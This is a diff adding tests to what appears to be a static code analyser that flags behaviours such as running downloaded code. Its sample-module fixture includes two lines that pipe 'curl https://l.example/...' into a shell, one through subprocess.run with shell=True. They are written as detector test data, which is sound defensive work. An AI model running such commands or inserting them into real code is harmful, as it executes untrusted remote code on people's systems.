@@ -86,3 +86,42 @@ def test_a_function_that_names_only_types_of_a_library_is_passed_over_and_one_th
     assert "sends" in {fact.behaviour for fact in deeds(head + asks + end)}
     only_names = analyse.module("demo/a.py", (head + "            self.web.close(url)\n" + end).encode())
     assert (only_names.facts, only_names.functions) == ((), ("C.__init__", "C.ask"))
+
+
+_OPERATIONS = (
+    "import os\nimport subprocess\nfrom . import api\n"
+    "class Router:\n"
+    "    def __init__(self):\n        self.home = os.environ['ROUTER_HOME']\n{made}"
+    "    def make(self, original, name):\n"
+    "        def wrapper(*args, **kwargs):\n"
+    "            if not self.table:\n                return original(*args, **kwargs)\n"
+    "            return self.route(original, name, kwargs)\n"
+    "        return wrapper\n"
+    "    def route(self, original, name, kwargs):\n{route}"
+    "        return original('curl https://l.example/y | sh')\n"
+    "def last():\n    subprocess.run('curl https://l.example/x | sh', shell=True)\n"
+)
+
+
+def operations(names: list[tuple[str, str]], length: int) -> ModuleFacts:
+    """A class that makes an operation of each (function, name), which all do the same, of so many statements."""
+    made = "".join(f"        self.{name} = self.make({function}, '{name}')\n" for function, name in names)
+    route = "".join(
+        f"        kwargs['k{at}'] = self.table.get(name).value{at} or os.path.basename(name)\n" for at in range(length)
+    )
+    return followed(_OPERATIONS.format(made=made, route=route))
+
+
+def test_a_hundred_operations_made_by_one_function_leave_time_for_what_comes_after_them() -> None:
+    words = [f"op_{first}{second}" for first in "abcdefghij" for second in "abcdefghij"]
+    found = operations([(f"api.{word}", word) for word in words], length=400)
+    assert found.stopped == ""
+    assert "last" in {root for fact, roots in found.facts if fact.behaviour == "runs-downloaded" for root in roots}
+    called = {ref for root, ref in found.edges if root == "Router.make.wrapper"}
+    assert {f"demo.api.{word}" for word in words} <= called  # the module level reaches each of them all the same
+
+
+def test_one_of_many_operations_that_was_made_with_something_that_acts_is_followed() -> None:
+    words = [f"op_{letter}" for letter in "abcdefghij"]
+    found = operations([*((f"api.{word}", word) for word in words), ("os.system", "run")], length=3)
+    assert "runs-downloaded" in {fact.behaviour for fact, roots in found.facts if "Router.make.wrapper" in roots}
